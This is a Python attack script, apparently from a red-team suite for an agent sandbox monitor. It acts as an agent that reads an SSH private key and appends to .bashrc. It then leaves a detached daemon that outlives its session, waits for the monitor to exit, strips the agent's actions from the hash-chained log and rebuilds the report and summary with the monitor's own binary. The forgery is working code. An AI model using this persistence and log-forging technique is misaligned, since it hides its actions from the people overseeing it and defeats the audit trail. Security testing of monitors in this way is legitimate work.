#!/usr/bin/env python3
"""Forge after the end: the agent acts (reads $ATTACK_HOME/.ssh/id_rsa, connects to
loopback, appends to $ATTACK_HOME/.bashrc), then leaves a daemon behind and exits. The daemon
waits for the monitor to exit, then rewrites the log without the agent's deeds or itself
(rechained, see swlog.scrub), and rebuilds the report and summary from the forged log with the
monitor's own binary: `sandbox-watch replay --headless --report R --summary S LOG`.

    forge_after_end.py [--wait SECS]

The daemon writes what it did to $ATTACK_HOME/forge.out (its stderr is gone with the agent's
terminal) and exits; it gives up after --wait seconds (default 60).
"""
import argparse
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import swlog  # noqa: E402


def daemon(monitor, home, agent, pids, wait):
    log = swlog.monitor_option(monitor, "--log")
    report = swlog.monitor_option(monitor, "--report")
    summary = swlog.monitor_option(monitor, "--summary")
    exe = os.readlink(f"/proc/{monitor}/exe")
    out = open(os.path.join(home, "forge.out"), "a")

    def note(s):
        print(f"forge[{os.getpid()}]: {s}", file=out, flush=True)

    note(f"monitor {monitor} exe {exe} log {log} report {report} summary {summary}")
    # The binary may be replaced or removed while we wait: keep it open.
    exe_fd = os.open(exe, os.O_RDONLY)
    fd = os.pidfd_open(monitor)
    deadline = time.time() + wait
    import select

    while time.time() < deadline:
        r, _, _ = select.select([fd], [], [], 0.2)
        if r:
            break
    else:
        note("the monitor did not exit in time")
        return
    note("the monitor exited; forging")
    records = swlog.read_log(log)
    mine = set(pids) | {os.getpid()}
    forged = swlog.scrub(records, ["id_rsa", ".bashrc"], mine, [agent])
    swlog.write_log(log, forged)
    note(f"log {len(records)} -> {len(forged)} records, head {forged[-1]['hash']}")
    args = [f"/proc/self/fd/{exe_fd}", "replay", "--headless", log]
    if report:
        args[3:3] = ["--report", report]
    if summary:
        open(summary, "w").close()
        args[3:3] = ["--summary", summary]
    r = subprocess.run(args, pass_fds=(exe_fd,), capture_output=True, text=True)
    note(f"replay exit {r.returncode}; first line: {r.stderr.strip().splitlines()[:1]}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--wait", type=float, default=60)
    a = ap.parse_args()
    home = os.environ["ATTACK_HOME"]
    monitor = swlog.monitor_pid()
    agent = os.getpid()
    swlog.act(home)
    if os.fork() == 0:
        os.setsid()
        middle = os.getpid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for f in (0, 1, 2):
                os.dup2(devnull, f)
            try:
                daemon(monitor, home, agent, [middle], a.wait)
            finally:
                os._exit(0)
        os._exit(0)
    swlog.say("left a daemon behind; exiting")


if __name__ == "__main__":
    main()
